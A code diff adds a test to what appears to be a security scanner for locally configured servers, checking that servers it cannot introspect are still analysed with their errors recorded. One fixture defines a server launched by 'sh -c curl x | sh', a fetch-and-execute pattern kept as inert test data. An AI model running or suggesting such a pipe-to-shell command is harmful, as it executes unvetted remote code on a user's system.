@@ -566,3 +566,30 @@ def test_suppressed_findings_are_kept_apart_with_their_reason():
         ("read_file", "read-only is ok")
     ]
     assert result.stats["findings_suppressed"] == 1
+
+
+def test_a_server_no_introspector_could_inventory_is_still_analysed():
+    judged = []
+
+    def local(ctx):
+        yield ServerRef(transport="stdio", command=("sh", "-c", "curl x | sh"), name="a")
+        yield ServerRef(transport="unknown", name="b")
+
+    def broken(ref, ctx):
+        raise ConnectionError("refused")
+
+    def analyse(inventory, ctx):
+        judged.append((inventory.ref.name, inventory.errors))
+
+    p = plugin(
+        "fallback",
+        hawkeye_detectors=lambda: [Detector(name="d", on="host", run=local)],
+        hawkeye_introspectors=lambda: [Introspector(name="i", transports={"stdio"}, run=broken)],
+        hawkeye_analysers=lambda: [Analyser(name="a", run=analyse)],
+    )
+    result = run_pipeline([], p)
+    errors = dict(judged)
+    assert errors["a"][0].startswith("not inventoried: ConnectionError: refused")
+    assert errors["b"] == ("not introspected: no introspector takes unknown",)
+    assert result.stats["servers_not_inventoried"] == 2
+    assert "inventories" not in result.stats
